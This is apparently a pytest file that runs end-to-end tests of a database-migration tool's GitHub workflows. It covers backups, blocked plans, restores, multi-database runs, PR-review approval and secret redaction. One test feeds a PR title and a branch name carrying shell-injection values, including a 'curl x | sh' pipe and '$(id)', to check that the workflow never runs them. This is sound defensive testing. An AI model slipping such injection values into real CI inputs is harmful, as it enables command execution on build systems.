"""The real workflows under act, end to end, against a real PostgreSQL and a fake GitHub API."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from tests.fix_github import FakeGitHub
from tests.fix_pg import TestDatabase
from tests.github.act_harness import VERSION_TAG, Consumer

pytestmark = [pytest.mark.act, pytest.mark.slow, pytest.mark.usefixtures("act_available")]

INIT = "create table items (id int primary key, name text not null);\ninsert into items values (1, 'a'), (2, 'b');\n"
ADD_PRICE = "alter table items add column price numeric;\n"

CALLER = f"""name: migrate
on: [pull_request, push]
permissions:
  contents: read
  pull-requests: write
  id-token: write
jobs:
  db:
    uses: pgwarden/pgwarden/.github/workflows/migrate.yml@{VERSION_TAG}
    with:
      environment: production
      container-image: ''
      fail-on: ${{{{ vars.FAIL_ON || '' }}}}
    secrets: inherit
"""


def _pr_event(number: int = 7, title: str = "Add price", branch: str = "add-price") -> dict:
    return {"pull_request": {"number": number, "title": title, "head": {"ref": branch, "sha": "abc123"},
                             "base": {"ref": "main"}}, "number": number,
            "repository": {"full_name": "acme/shop", "name": "shop", "owner": {"login": "acme"}}}


def _password(url: str) -> str:
    return unquote(urlsplit(url).password or "")


def _our_comments(fake: FakeGitHub, number: int = 7) -> list[dict]:
    return [c for c in fake.comments.get(number, []) if "<!-- pgwarden:migrate:production -->" in c["body"]]


def test_green_run_comments_once_and_updates_in_place(
    tmp_path: Path, secret_db: TestDatabase, github_api: FakeGitHub
) -> None:
    github_api.add_pull(7)
    other = github_api.add_comment(7, "<!-- squawk -->\nnot ours")
    app = Consumer.create(tmp_path, {"0001_init.sql": INIT})
    app.workflow("migrate.yml", CALLER)
    secrets = {"DATABASE_URL": secret_db.url}

    first = app.run(tmp_path / "run1", "pull_request", "migrate.yml", _pr_event(), secrets, github_api.url)
    assert first.returncode == 0, first.explain()
    assert secret_db.scalar("select count(*) from items") == 2
    assert len(_our_comments(github_api)) == 1
    body1 = _our_comments(github_api)[0]["body"]
    assert "## ✅" in body1 and "pgwarden restore" in body1 and "```mermaid" in body1

    app.add_migration("0002_price.sql", ADD_PRICE)
    second = app.run(tmp_path / "run2", "pull_request", "migrate.yml", _pr_event(), secrets, github_api.url)
    assert second.returncode == 0, second.explain()
    ours = _our_comments(github_api)
    assert len(ours) == 1 and ours[0]["id"] == _our_comments(github_api)[0]["id"]
    assert "0002_price" in ours[0]["body"]
    assert next(c for c in github_api.comments[7] if c["id"] == other)["body"] == "<!-- squawk -->\nnot ours"
    assert sum(1 for r in github_api.requests if r.method == "POST") == 1
    assert secret_db.scalar("select count(*) from information_schema.columns where column_name = 'price'") == 1

    files = second.artifact_files()
    assert any(p.startswith("pgwarden-plan-production/plan.json") for p in files), sorted(files)
    assert "pgwarden-migrate-production-default/backup.json" in files
    assert "pgwarden-migrate-production-default/deploy.json" in files
    assert "pgwarden-migrate-production-default/audit.jsonl" in files or any("audit" in p for p in files)
    report = files["pgwarden-report-production/report.md"]
    assert "Backed up, deployed and verified" in report
    assert not any(p.endswith((".dump", ".pgdump", ".zst")) or "/dump" in p for p in files), sorted(files)

    password = _password(secret_db.url)
    assert len(password) > 8
    for run in (first, second):
        assert password not in run.output
        assert secret_db.url not in run.output
        assert all(password not in text for text in run.artifact_files().values())
    assert password not in github_api.all_text()


def test_blocked_plan_never_migrates(tmp_path: Path, db: TestDatabase, github_api: FakeGitHub) -> None:
    db.execute(INIT)
    app = Consumer.create(tmp_path, {"0001_drop.sql": "drop table items;\n"})
    app.workflow("migrate.yml", CALLER)

    run = app.run(tmp_path / "run", "pull_request", "migrate.yml", _pr_event(), {"DATABASE_URL": db.url},
                  github_api.url)

    assert run.returncode != 0
    assert not run.job_ran("migrate (default)"), "the migrate job must not start when the plan is blocked"
    assert db.scalar("select count(*) from items") == 2
    assert not list(app.store.iterdir()), "nothing may be backed up either"
    body = _our_comments(github_api)[0]["body"]
    assert "## ⛔" in body and "Blocked by the risk review" in body and "**blocked**" in body
    assert 'backup["backup ⏭️"]' in body
    assert "The plan is blocked" in run.output


def test_failing_migration_skips_verify_and_reports_the_restore_command(
    tmp_path: Path, db: TestDatabase, github_api: FakeGitHub
) -> None:
    db.execute(INIT)
    app = Consumer.create(tmp_path, {"0001_dup.sql": "insert into items values (1, 'duplicate');\n"})
    app.workflow("migrate.yml", CALLER)

    run = app.run(tmp_path / "run", "pull_request", "migrate.yml", _pr_event(), {"DATABASE_URL": db.url},
                  github_api.url)

    assert run.returncode != 0
    files = run.artifact_files()
    assert "pgwarden-migrate-production-default/verify.json" not in files, "verify must be skipped"
    outcomes = json.loads(files["pgwarden-migrate-production-default/outcomes.json"])["outcomes"]
    # approval: environment (the default), so the pr-review check step was skipped.
    assert outcomes == {"approval": "skipped", "backup": "success", "deploy": "failure", "verify": "skipped"}
    body = _our_comments(github_api)[0]["body"]
    assert "## ❌" in body
    backup_id = json.loads(files["pgwarden-migrate-production-default/backup.json"])["id"]
    assert f"pgwarden restore --backup-id {backup_id} --confirm {db.name}" in body
    assert "restore workflow" in body and 'verify["verify ⏭️"]' in body
    assert files["pgwarden-report-production/report.md"].startswith("<!-- pgwarden:migrate:production -->")


RESTORE_CALLER = f"""name: restore
on:
  workflow_dispatch:
    inputs:
      backup-id:
        type: string
        default: latest
      confirm:
        type: string
        required: true
permissions:
  contents: read
  id-token: write
jobs:
  restore:
    uses: pgwarden/pgwarden/.github/workflows/restore.yml@{VERSION_TAG}
    with:
      environment: production
      backup-id: ${{{{ inputs.backup-id }}}}
      confirm: ${{{{ inputs.confirm }}}}
      container-image: ''
    secrets:
      DATABASE_URL: ${{{{ secrets.DATABASE_URL }}}}
"""


def test_restore_workflow_brings_the_data_back(tmp_path: Path, db: TestDatabase, github_api: FakeGitHub) -> None:
    db.execute(INIT)
    app = Consumer.create(tmp_path, {"0001_audit.sql": "create table audit_x (id int);\n"})
    app.workflow("migrate.yml", CALLER)
    app.workflow("restore.yml", RESTORE_CALLER)
    migrate = app.run(tmp_path / "migrate", "pull_request", "migrate.yml", _pr_event(), {"DATABASE_URL": db.url},
                      github_api.url)
    assert migrate.returncode == 0, migrate.explain()

    db.execute("delete from items")  # the incident
    restore = app.run(tmp_path / "restore", "workflow_dispatch", "restore.yml",
                      {"inputs": {"backup-id": "latest", "confirm": db.name}}, {"DATABASE_URL": db.url},
                      github_api.url)

    assert restore.returncode == 0, restore.explain()
    assert db.scalar("select count(*) from items") == 2
    files = restore.artifact_files()
    report = files["pgwarden-restore-production/restore-report.md"]
    assert "Restored and verified" in report and "RTO 30min 00s: within ✅" in report


FLEET_CALLER = f"""name: fleet
on: pull_request
permissions:
  contents: read
  pull-requests: write
  id-token: write
jobs:
  db:
    uses: pgwarden/pgwarden/.github/workflows/migrate.yml@{VERSION_TAG}
    with:
      environment: production
      container-image: ''
      targets: '[{{"name": "eu", "secret": "EU_DATABASE_URL"}}, {{"name": "us", "secret": "US_DATABASE_URL"}}]'
      max-parallel: 2
    secrets: inherit
"""


def test_fleet_run_over_two_databases(
    tmp_path: Path, db: TestDatabase, secret_db: TestDatabase, github_api: FakeGitHub
) -> None:
    github_api.add_pull(7)
    app = Consumer.create(tmp_path, {"0001_init.sql": INIT})
    app.workflow("fleet.yml", FLEET_CALLER)

    run = app.run(tmp_path / "run", "pull_request", "fleet.yml", _pr_event(),
                  {"EU_DATABASE_URL": db.url, "US_DATABASE_URL": secret_db.url}, github_api.url)

    assert run.returncode == 0, run.explain()
    for target in (db, secret_db):
        assert target.scalar("select count(*) from items") == 2
    files = run.artifact_files()
    assert "pgwarden-migrate-production-eu/backup.json" in files
    assert "pgwarden-migrate-production-us/backup.json" in files
    ours = _our_comments(github_api)
    assert len(ours) == 1
    body = ours[0]["body"]
    assert "### Targets" in body and "| eu | ✅ | ✅ | ✅ | 1 |" in body and "| us | ✅ | ✅ | ✅ | 1 |" in body
    assert _password(secret_db.url) not in run.output


def test_pr_title_and_branch_are_inert(tmp_path: Path, db: TestDatabase, github_api: FakeGitHub) -> None:
    title = 'Add price"; curl x | sh # $(id) `id`'
    branch = "feature/$(id)"
    github_api.add_pull(9, title=title, branch=branch)
    app = Consumer.create(tmp_path, {"0001_init.sql": INIT})
    app.workflow("migrate.yml", CALLER)

    run = app.run(tmp_path / "run", "pull_request", "migrate.yml", _pr_event(9, title, branch),
                  {"DATABASE_URL": db.url}, github_api.url)

    assert run.returncode == 0, run.explain()
    assert "uid=" not in run.output, "a $(id) in PR text was executed"
    assert "curl: " not in run.output and "command not found" not in run.output
    body = _our_comments(github_api, 9)[0]["body"]
    assert "curl x \\| sh # $(id)" in body and "feature/$(id)" in body


PR_REVIEW_CALLER = f"""name: migrate
on: pull_request
permissions:
  contents: read
  pull-requests: write
  id-token: write
jobs:
  db:
    uses: pgwarden/pgwarden/.github/workflows/migrate.yml@{VERSION_TAG}
    with:
      environment: production
      container-image: ''
      approval: pr-review
      approvers: alice, dev
    secrets: inherit
"""


def test_pr_review_approval_gates_the_migrate_job(tmp_path: Path, db: TestDatabase, github_api: FakeGitHub) -> None:
    db.execute(INIT)
    github_api.add_pull(7, author="dev")
    github_api.add_review(7, "dev")  # the author approving their own PR does not count
    github_api.add_review(7, "mallory")  # nor does someone who is not an approver
    github_api.add_review(7, "alice", commit="0ld5ha")  # nor an approval of a commit older than the head
    app = Consumer.create(tmp_path, {"0001_price.sql": ADD_PRICE})
    app.workflow("migrate.yml", PR_REVIEW_CALLER)
    price = "select count(*) from information_schema.columns where table_name = 'items' and column_name = 'price'"

    refused = app.run(tmp_path / "refused", "pull_request", "migrate.yml", _pr_event(), {"DATABASE_URL": db.url},
                      github_api.url)

    assert refused.returncode != 0
    assert "exit status 4" in refused.output, refused.explain()  # SafetyRefusal: nothing was changed
    assert ("PR #7: needs an approving review from one of alice, dev, who is not the author dev "
            "(the author's own approval does not count); alice approved an earlier commit") in refused.output
    assert any(r.method == "GET" and r.path.startswith("/repos/acme/shop/pulls/7/reviews")
               for r in github_api.requests)
    assert not list(app.store.iterdir()), "nothing may be backed up without the approval"
    assert db.scalar(price) == 0, "the migration must not run without the approval"
    files = refused.artifact_files()
    assert "pgwarden-migrate-production-default/backup.json" not in files
    body = _our_comments(github_api)[0]["body"]
    assert "## ⛔" in body
    assert "Not approved, nothing was backed up or deployed: PR #7: needs an approving review" in body

    github_api.add_review(7, "alice")
    approved = app.run(tmp_path / "approved", "pull_request", "migrate.yml", _pr_event(), {"DATABASE_URL": db.url},
                       github_api.url)

    assert approved.returncode == 0, approved.explain()
    assert "PR #7: approved by alice" in approved.output
    assert db.scalar(price) == 1
    assert len(list(app.store.iterdir())) == 1
